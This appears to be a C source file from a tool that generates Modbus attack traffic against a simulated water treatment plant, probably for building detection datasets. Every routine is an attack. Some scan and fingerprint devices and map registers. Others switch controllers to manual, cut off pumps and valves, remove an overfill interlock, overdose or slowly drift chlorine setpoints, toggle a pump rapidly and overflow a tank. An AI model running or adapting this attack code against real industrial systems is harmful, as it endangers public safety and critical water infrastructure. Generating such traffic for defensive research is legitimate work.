/* Attacks that a correct Modbus stack can carry out. */
#include <string.h>

#include "pcaps/plant/errand.h"
#include "pcaps/plant/variables.h"

#define QUICK_MS 400 /* silence is part of what a scan learns */

int attack_scan(struct visit *v)
{
	struct link l;
	uint8_t out[LINK_ADU_MAX];
	unsigned answered = 0, refused = 0, silent = 0;

	if (!visit_open(v, &l, QUICK_MS))
		return FAILED;
	say(v, "connected to %s", v->address);
	for (int unit = 0; unit <= 255 && !stop_asked(); unit = unit == 40 ? 246 : unit + 1) {
		int n = link_exchange(&l, unit, (const uint8_t[]){ 3, 0, 0, 0, 1 }, 5, out);

		if (n > 0 && !(out[0] & 0x80))
			say(v, "unit %d answers", unit);
		answered += n > 0 && !(out[0] & 0x80);
		refused += n > 0 && out[0] & 0x80;
		silent += n == 0;
	}
	say(v, "%u unit ids tried: %u answered, %u refused, %u silent", answered + refused + silent,
	    answered, refused, silent);

	answered = refused = silent = 0;
	for (unsigned function = 1; function < 128 && !stop_asked(); function++) {
		uint8_t pdu[] = { (uint8_t)function, 0xff, 0xff, 0, 1 };
		bool short_one =
			function == 7 || function == 11 || function == 12 || function == 17;
		int n = link_exchange(&l, 1, pdu, short_one ? 1 : sizeof(pdu), out);

		/* exception 1 means "unknown"; everything else betrays that the function is there
		 */
		if (n > 0 && !(out[0] & 0x80 && out[1] == 1))
			say(v, "function %u is known: %s", function, answer_text(out, n));
		answered += n > 0 && !(out[0] & 0x80);
		refused += n > 0 && out[0] & 0x80;
		silent += n == 0;
	}
	say(v, "127 functions tried: %u answered, %u refused, %u silent", answered, refused,
	    silent);
	link_close(&l);
	return DONE;
}

int attack_identify(struct visit *v)
{
	static const struct step steps[] = {
		{ "report server id", 1, "11" },
		{ "device identification, basic stream", 1, "2b0e0100" },
		{ "device identification, regular stream", 1, "2b0e0200" },
		{ "device identification, extended stream", 1, "2b0e0300" },
		{ "object 0 alone", 1, "2b0e0400" },
		{ "object 1 alone", 1, "2b0e0401" },
		{ "object 2 alone", 1, "2b0e0402" },
		{ "object 3 alone", 1, "2b0e0403" },
		{ "object 4 alone", 1, "2b0e0404" },
		{ "object 5 alone", 1, "2b0e0405" },
		{ "object 6 alone", 1, "2b0e0406" },
		{ "private object 128 alone", 1, "2b0e0480" },
		{ "object 7, which is reserved", 1, "2b0e0407" },
		{ "object 255, which does not exist", 1, "2b0e04ff" },
		{ "stream from an object that does not exist", 1, "2b0e0209" },
		{ "read code 5, which does not exist", 1, "2b0e0500" },
		{ "MEI type 15, which does not exist", 1, "2b0f0100" },
	};
	struct link l;
	uint8_t pdu[4] = { 43, 14, 3, 0 }, out[LINK_ADU_MAX];
	unsigned parts = 0;
	bool alive;

	if (!visit_open(v, &l, QUICK_MS))
		return FAILED;
	alive = steps_run(v, &l, steps, COUNT_OF(steps));
	/* follow "more follows" until the list is complete */
	while (alive && parts < 10) {
		int n = link_exchange(&l, 1, pdu, sizeof(pdu), out);

		parts++;
		if (n < 7 || out[4] != 0xff)
			break;
		pdu[3] = out[5];
	}
	say(v, "whole extended identification read in %u parts", parts);
	link_close(&l);
	return alive ? DONE : FAILED;
}

/* The number of objects that function `function` reaches from address 0 on. */
static int area_size(struct link *l, int function)
{
	int low = 0, high = 65536; /* low is readable (or 0), high is not */

	for (int addr = 0; addr < 65536 && high == 65536; addr += addr < 300 ? 10 : 8192) {
		if (!link_do(l, 1, function, addr, 1, NULL))
			high = addr;
		else
			low = addr + 1;
		clock_sleep_ms(5);
	}
	while (low < high) {
		int middle = (low + high) / 2;

		if (link_do(l, 1, function, middle, 1, NULL))
			low = middle + 1;
		else
			high = middle;
	}
	return low;
}

int attack_sweep(struct visit *v)
{
	static const char *const names[] = { "", "coils", "discrete inputs", "holding registers",
					     "input registers" };
	struct link l;

	if (!visit_open(v, &l, QUICK_MS))
		return FAILED;
	for (int function = 1; function <= 4 && !stop_asked(); function++) {
		int size = area_size(&l, function);

		say(v, "%d %s found", size, names[function]);
		/* then all of it, as few requests as it takes */
		for (int addr = 0; addr < size; addr += 100)
			link_do(&l, 1, function, addr, size - addr < 100 ? size - addr : 100, NULL);
	}
	for (int i = 0; i < 4; i++)
		link_do(&l, 1, MODBUS_FC_READ_HOLDING_REGISTERS, 0x2000 + i * 0x3000, 125, NULL);
	say(v, "four large reads far outside refused");
	link_close(&l);
	return DONE;
}

int attack_write(struct visit *v)
{
	static const uint16_t off[] = { 0, 0, 0, 0 }, limits[] = { 990, 1000, 10, 1000 };
	const uint16_t on[] = { 1 };
	uint16_t back[8];
	struct link l;
	bool ok;

	if (!visit_open(v, &l, QUICK_MS))
		return FAILED;
	ok = link_do(&l, 1, 5, 3, 1, off);
	say(v, "function 5: PLC3_AUTO (coil 3) off, the reservoir is in manual");
	clock_sleep_ms(300);
	ok &= link_do(&l, 1, 15, 0, 3, off);
	say(v, "function 15: P301, P302 and valve V301 (coils 0 to 2) off: the town is cut off");
	clock_sleep_ms(500);
	ok &= link_do(&l, 1, 6, 3, 1, &limits[3]);
	say(v, "function 6: RES_HI_LIMIT (register 3) to 100 %%: the overfill interlock is gone");
	clock_sleep_ms(300);
	ok &= link_do(&l, 1, 16, 0, 4, limits);
	say(v, "function 16: registers 0 to 3 to 990, 1000, 10, 1000");
	clock_sleep_ms(300);
	ok &= link_count(&l, 22, modbus_mask_write_register(l.modbus, 2, 0x00f0, 0x0005));
	say(v, "function 22: register 2 masked with and 0x00f0, or 0x0005");
	clock_sleep_ms(300);
	ok &= link_count(&l, 23,
			 modbus_write_and_read_registers(l.modbus, 0, 2, limits, 0, 4, back));
	say(v, "function 23: registers 0 and 1 written, 0 to 3 read: %u %u %u %u", back[0], back[1],
	    back[2], back[3]);
	clock_sleep_ms(300);
	ok &= link_do(&l, 1, 5, 0, 1, on);
	say(v, "function 5: P301 (coil 0) on against the closed valve");
	/* two that the PLC refuses */
	link_do(&l, 1, 6, 500, 1, on);
	say(v, "function 6: register 500: exception %d", l.last_exception);
	link_do(&l, 1, 5, 500, 1, on);
	say(v, "function 5: coil 500: exception %d", l.last_exception);
	link_close(&l);
	return ok ? DONE : FAILED;
}

/* Function 6 to a register that is called so in this plant. */
static bool set(struct visit *v, struct link *l, const char *name, double value)
{
	int id = variable_find(name);
	const struct variable *var = &variables[id < 0 ? 0 : id];
	uint16_t regs[2];
	bool ok;

	if (id < 0) {
		complain("this plant has no variable %s", name);
		return false;
	}

	variable_registers(var, value, regs);
	ok = link_do(l, var->unit, MODBUS_FC_WRITE_SINGLE_REGISTER, var->addr, 1, regs);
	say(v, "function 6: %s (register %u) to %.2f %s, raw %u; usual is %.2f to %.2f", var->name,
	    var->addr, value, var->unit_text, regs[0], var->low, var->high);
	return ok;
}

int attack_setpoint(struct visit *v)
{
	struct link l;
	uint16_t regs[2];
	bool ok;

	if (!visit_open(v, &l, QUICK_MS))
		return FAILED;
	ok = link_do(&l, 1, MODBUS_FC_READ_HOLDING_REGISTERS, 0, 8, NULL);
	say(v, "function 3: registers 0 to 7 read");
	ok &= set(v, &l, "CL_HIGH_LIMIT", 500);
	ok &= set(v, &l, "CHLORINE_SP", 9);
	ok &= set(v, &l, "DOSE_MAX", 200);
	for (int i = 0; i < 8 && ok && clock_sleep_ms(1000); i++) {
		uint32_t raw;
		float chlorine;

		ok = link_count(&l, 4, modbus_read_input_registers(l.modbus, 0, 2, regs));
		raw = (uint32_t)regs[0] << 16 | regs[1];
		memcpy(&chlorine, &raw, sizeof(chlorine));
		say(v, "function 4: CHLORINE is %.2f mg/l", (double)chlorine);
	}
	link_close(&l);
	return ok ? DONE : FAILED;
}

int attack_flap(struct visit *v)
{
	const uint16_t off[] = { 0 }, on[] = { 1 };
	struct link l;
	unsigned n = 0;
	bool ok;

	if (!visit_open(v, &l, QUICK_MS))
		return FAILED;
	ok = link_do(&l, 1, 5, 3, 1, off);
	say(v, "function 5: PLC1_AUTO (coil 3) off, the intake is in manual");
	for (; ok && n < 60 && !stop_asked(); n++) {
		ok = link_do(&l, 1, 5, 0, 1, n % 2 ? on : off);
		clock_sleep_ms(100);
	}
	say(v, "function 5: P101_CMD (coil 0) written %u times, off and on in turn", n);
	link_close(&l);
	return ok ? DONE : FAILED;
}

int attack_drift(struct visit *v)
{
	struct link l;
	double value = 0.6;
	bool ok = true;

	if (!visit_open(v, &l, QUICK_MS))
		return FAILED;
	for (int i = 0; i < 30 && ok && clock_sleep_ms(1100); i++) {
		value += 0.03;
		ok = set(v, &l, "CHLORINE_SP", value);
	}
	link_close(&l);
	return ok ? DONE : FAILED;
}

int attack_overflow(struct visit *v)
{
	const uint16_t off[] = { 0 }, on[] = { 1, 1 };
	struct link l;
	uint16_t level = 0;
	bool ok;

	if (!visit_open(v, &l, QUICK_MS))
		return FAILED;
	ok = set(v, &l, "RAW_HH_LIMIT", 100);
	ok &= set(v, &l, "RAW_STOP", 100);
	ok &= link_do(&l, 1, 5, 3, 1, off);
	say(v, "function 5: PLC1_AUTO (coil 3) off, the intake is in manual");
	ok &= link_do(&l, 1, 15, 0, 2, on);
	say(v, "function 15: P101 and P102 (coils 0 and 1) on");
	for (int i = 0; i < 40 && ok && level < 985 && clock_sleep_ms(1000); i++) {
		ok = link_count(&l, 4, modbus_read_input_registers(l.modbus, 1, 1, &level));
		if (i % 4 == 0 || level >= 950)
			say(v, "function 4: RAW_LEVEL is %.1f %%", level / 10.0);
	}
	link_close(&l);
	return ok && level >= 950 ? DONE : FAILED;
}
